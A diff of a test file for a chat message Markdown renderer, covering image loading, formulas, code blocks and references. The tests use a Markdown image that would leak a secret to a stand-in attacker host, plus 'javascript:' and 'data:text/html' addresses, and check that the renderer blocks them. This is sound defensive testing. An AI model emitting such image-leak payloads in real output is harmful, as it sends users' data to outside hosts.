@@ -38,10 +38,33 @@ describe("a settled message", () => {
     expect(link?.rel).toContain("noopener");
   });
 
-  it("names an image and loads nothing", () => {
+  it("names an image and the host that would be asked for it, and loads nothing", () => {
     const host = render("![the chart](https://evil.example/p.png?leak=SECRET)");
-    expect(host.innerHTML).not.toContain("evil.example");
-    expect(host.querySelector('[role="img"]')?.getAttribute("aria-label")).toBe("the chart");
+    expect(host.querySelector("img, [src]")).toBeNull();
+    expect(host.innerHTML).not.toContain("SECRET");
+    expect(host.querySelector("button")?.textContent).toBe("the chartLoad it from evil.example");
+  });
+
+  it("offers no image whose address is not allowed, and none inside a link", () => {
+    for (const text of [
+      "![a](javascript:1)",
+      "![a](data:text/html,x)",
+      "[![a](https://i.example/p.png)](https://ok.example)",
+    ]) {
+      const host = render(text);
+      expect(host.querySelector("button, img")).toBeNull();
+      expect(host.querySelector('[role="img"]')?.getAttribute("aria-label")).toBe("a");
+    }
+  });
+
+  it("shows a picture that is data at once: nobody is asked for it", () => {
+    expect(render("![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)").querySelector("img")?.alt).toBe("dot");
+  });
+
+  it("makes formulas between double dollars, and shows their source until they are drawn", () => {
+    const host = render("So $$x^2$$ it is.\n\n$$\n\\frac{1}{2}\n$$\n");
+    expect(host.querySelector(".tw-formula")?.textContent).toBe("x^2");
+    expect(host.querySelector(".tw-formula-display")?.textContent).toBe("\\frac{1}{2}");
   });
 
   it("puts the headings of a message below those of the page", () => {
@@ -140,7 +163,8 @@ describe("faults that other products had", () => {
     const code = "def __enter__(self):\n  self.__held = __lock\n";
     for (const isGrowing of [true, false]) {
       const host = render(`\`\`\`py\n${code}\`\`\`\n`, isGrowing);
-      expect(host.textContent).toBe(code);
+      expect([...host.querySelectorAll(".tw-markdown-group > *")]).toHaveLength(1);
+      expect(host.querySelector("pre")?.textContent).toBe(code);
     }
   });
 
@@ -176,6 +200,12 @@ describe("faults that other products had", () => {
 });
 
 describe("references across blocks", () => {
+  it("takes an indented line behind a definition for words, as a parse of the whole text does", () => {
+    const host = render("[a]: /address\n    - no item\n");
+    expect(host.querySelector("li")).toBeNull();
+    expect(host.querySelector("p")?.textContent).toBe("- no item");
+  });
+
   it("links to an address that a later block defines, once its line is whole", () => {
     const text = "See [the plan][p].\n\nMore.\n\n[p]: https://ok.example/plan";
     expect(render(text, true).querySelector("[href]")).toBeNull();
